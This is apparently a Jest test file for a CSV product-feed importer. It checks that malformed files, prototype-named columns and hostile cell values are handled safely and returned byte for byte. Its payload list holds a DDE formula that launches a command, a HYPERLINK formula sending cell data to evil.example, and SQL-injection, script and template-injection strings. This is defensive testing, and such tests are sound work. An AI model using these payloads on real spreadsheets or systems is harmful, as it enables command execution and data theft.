import { readFileSync } from 'node:fs';
import { meet, monsters } from '../support/csv-monsters';
import { startTestService, type TestService } from '../support/service';
import { rawFilePath } from '../support/stored-uploads';

describe('a CSV monster', () => {
  let service: TestService;
  beforeAll(async () => {
    service = await startTestService();
  });

  it.each(monsters)('of $what is rejected, fails or has its rows skipped', (monster) =>
    meet(service.api, monster),
  );
});

describe('texts with a meaning elsewhere, such as formulas', () => {
  let service: TestService;
  beforeAll(async () => {
    service = await startTestService();
  });

  const formulas = [
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '|calc',
    '%0A=1',
    '\\N',
    '\\.',
    "'; drop table products; --",
    '<script>alert(1)</script>',
    '{{7*7}}',
    '${7*7}',
    '__proto__',
  ];
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

  it('are stored and returned byte for byte', async () => {
    const csv = `sku,product_name,description\n${formulas.map((text, at) => `${at},${quoted(`x${text}`)},${quoted(text.trim())}\n`).join('')}`;
    const { feedId, job } = await service.api.loadFeed(csv, 'Formulas');

    expect(job.summary).toMatchObject({ inserted: formulas.length, skipped: 0 });
    const { body } = await service.api.get('/products?partner_name=Formulas&limit=100');
    const bySku = new Map((body.items as { sku: string }[]).map((item) => [item.sku, item]));
    for (const [at, text] of formulas.entries()) {
      expect(bySku.get(String(at))).toMatchObject({ product_name: `x${text}`, description: text.trim() });
    }
    expect((await service.api.get(`/feeds/${feedId}/raw`)).body).toBe(csv);
    expect(readFileSync(await rawFilePath(service, feedId), 'utf8')).toBe(csv);
  });

  it('of a rejected row are returned as they were sent, after added columns without formulas', async () => {
    const rows = formulas.map((text) => `,${quoted(text)}`);
    const { jobId } = await service.api.loadFeed(
      `sku,product_name\n${rows.join('\n')}\n`,
      'Rejected formulas',
    );

    const { body } = await service.api.get(`/jobs/${jobId}/rejects.csv`);

    const lines = (body as string).trimEnd().split('\n').slice(1);
    expect(lines).toHaveLength(rows.length);
    for (const [at, line] of lines.entries()) {
      expect(line.endsWith(`,${rows[at]}`)).toBe(true);
      expect(line).toMatch(/^\d+,[a-z_]+,/);
    }
  });

  it('are ignored as unknown columns in a header', async () => {
    const names = [
      '__proto__',
      'constructor',
      'prototype',
      'hasOwnProperty',
      'toString',
      'valueOf',
      '__defineGetter__',
      'length',
    ];
    const csv = `${names.join()},sku,product_name\n${names.map(() => 'x').join()},A,Tent\n`;
    const before = Object.getOwnPropertyNames(Object.prototype);

    const inspection = await service.api.inspect({ csv, partnerName: 'Prototypes' });
    const { job } = await service.api.loadFeed(csv, 'Prototypes');
    const missing = await service.api.upload({ csv: `${names.join()}\nx\n`, partnerName: 'Prototypes' });

    expect(inspection.body).toMatchObject({
      accepted: true,
      row_count: 1,
      rows: [{ values: { sku: 'A', product_name: 'Tent' } }],
    });
    expect(job.summary).toMatchObject({ inserted: 1, skipped: 0 });
    // A name with a leading underscore is treated as a report column.
    const unknown = names.filter((name) => !name.startsWith('_')).length;
    expect(job.issue_counts).toEqual([expect.objectContaining({ code: 'unknown_column', count: unknown })]);
    expect(missing.status).toBe(400);
    expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(before);
  });

  it('are loaded as skus', async () => {
    const skus = [
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      '\\N',
      '\\.',
      'null',
      'undefined',
      'NaN',
    ];
    const { job } = await service.api.loadFeed(
      `sku,product_name\n${skus.map((sku) => `${sku},Tent\n`).join('')}`,
      'Skus',
    );

    expect(job.summary).toMatchObject({ inserted: skus.length, skipped: 0 });
    for (const sku of skus) {
      const { body } = await service.api.get(`/products?partner_name=Skus&sku=${encodeURIComponent(sku)}`);
      expect(body).toMatchObject({ count: 1, items: [{ sku }] });
    }
  });
});
